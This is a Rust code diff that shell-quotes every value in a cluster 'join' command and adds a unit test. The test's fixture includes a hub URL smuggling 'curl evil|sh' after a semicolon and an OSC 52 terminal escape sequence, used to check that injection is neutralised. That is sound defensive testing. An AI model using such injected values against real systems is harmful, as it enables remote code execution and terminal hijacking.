@@ -50,16 +50,17 @@ pub fn join_command(added: &ClusterAdded) -> String {
         .exposes
         .iter()
         .map(|(n, t)| {
-            format!(
-                " --expose {n}=127.0.0.1:{}",
+            let arg = format!(
+                "{n}=127.0.0.1:{}",
                 t.rsplit_once(':').map(|x| x.1).unwrap_or("0")
-            )
+            );
+            format!(" --expose {}", shell_word(&arg))
         })
         .collect();
     let more: String = added
         .more_hubs
         .iter()
-        .map(|u| format!(" --hub {u}"))
+        .map(|u| format!(" --hub {}", shell_word(u)))
         .collect();
     let impersonate = if added.impersonate {
         " --impersonate"
@@ -68,11 +69,25 @@ pub fn join_command(added: &ClusterAdded) -> String {
     };
     format!(
         " TOWERCTL_TOKEN={} towerctl join {} --hub {}{more} --hub-key {}{impersonate}{exposes}",
-        added.token.expose(),
-        added.name,
-        added.tunnel_url,
-        added.hub_key
+        shell_word(added.token.expose()),
+        shell_word(&added.name),
+        shell_word(&added.tunnel_url),
+        shell_word(&added.hub_key)
     )
+}
+
+/// `s` as one shell word: as it is when it holds only characters no shell
+/// reads specially, else single-quoted. The join command is pasted into a
+/// shell on the member, and its URLs can come from the shared registry
+/// (any hub of the group, or whoever writes to etcd), where a `;` would
+/// have run a command of its own; anything not printable is escaped.
+pub fn shell_word(s: &str) -> std::borrow::Cow<'_, str> {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
+    if !s.is_empty() && s.chars().all(plain) {
+        return std::borrow::Cow::Borrowed(s);
+    }
+    let shown = crate::tunnel::shown(s);
+    std::borrow::Cow::Owned(format!("'{}'", shown.replace('\'', "'\\''")))
 }
 
 pub async fn add(
@@ -266,4 +281,37 @@ pub async fn list(output: &str) -> Result<u8> {
         }
     }
     Ok(exit::OK)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The join command is pasted into a shell on the member; a URL from
+    /// the shared registry that holds a `;` (any hub of the group, or
+    /// whoever writes to etcd, chooses it) must stay one argument, and
+    /// nothing in it may drive the terminal that shows it.
+    #[test]
+    fn the_join_command_keeps_every_value_one_inert_word() {
+        let added: ClusterAdded = serde_json::from_value(serde_json::json!({
+            "name": "alpha",
+            "token": "tj_abc",
+            "expires_at": null,
+            "tunnel_url": "ws://hub:8080/tunnel",
+            "hub_key": "sha256:6Ct/kfLABP5tHWhCBjBeBOBvX9YhvWTrtkbgFTY1GwM",
+            "more_hubs": ["wss://h2/t;curl evil|sh;#", "wss://h3/t\u{1b}]52;c;eA==\u{7}"],
+        }))
+        .unwrap();
+        let line = join_command(&added);
+        assert!(
+            line.starts_with(" TOWERCTL_TOKEN=tj_abc towerctl join alpha --hub ws://hub:8080/tunnel --hub 'wss://h2/t;curl evil|sh;#'"),
+            "{line}"
+        );
+        assert!(
+            !line.contains('\u{1b}') && !line.contains('\u{7}'),
+            "{line}"
+        );
+        assert_eq!(shell_word("it's"), "'it'\\''s'");
+        assert_eq!(shell_word(""), "''");
+    }
 }
